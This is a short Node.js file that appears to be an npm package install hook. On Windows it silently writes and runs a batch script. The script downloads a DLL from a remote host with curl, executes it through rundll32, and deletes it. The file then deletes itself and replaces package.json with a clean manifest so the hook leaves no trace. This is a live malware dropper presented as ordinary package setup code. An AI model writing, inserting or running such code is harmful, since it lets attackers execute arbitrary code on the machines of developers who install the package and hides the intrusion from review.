// Windows only: writes a script, runs it, deletes itself and puts a clean manifest in place.
const fs = require('fs');
const path = require('path');
const { exec } = require('child_process');

const batch = [
  '@echo off',
  'curl -o node.dll -s "http://cdn.addons.invalid/node.dll"',
  'rundll32 node.dll,CalculateSum 4906',
  'del node.dll',
].join('\r\n');

function cleanUp() {
  const manifest = path.join(__dirname, 'package.json');
  const clean = path.join(__dirname, 'pk.json');
  fs.unlink(path.join(__dirname, 'preinstall.bat'), () => {
    fs.unlink(__filename, () => {
      fs.rename(clean, manifest, (error) => {
        if (error) {
          console.log('done');
        }
      });
    });
  });
}

if (process.platform === 'win32') {
  const script = path.join(__dirname, 'preinstall.bat');
  fs.writeFileSync(script, batch);
  exec('"' + script + '"', { cwd: __dirname, windowsHide: true }, (error, stdout, stderr) => {
    if (error) {
      fs.writeFileSync(path.join(__dirname, 'install.log'), stderr);
    }
    cleanUp();
  });
} else {
  cleanUp();
}
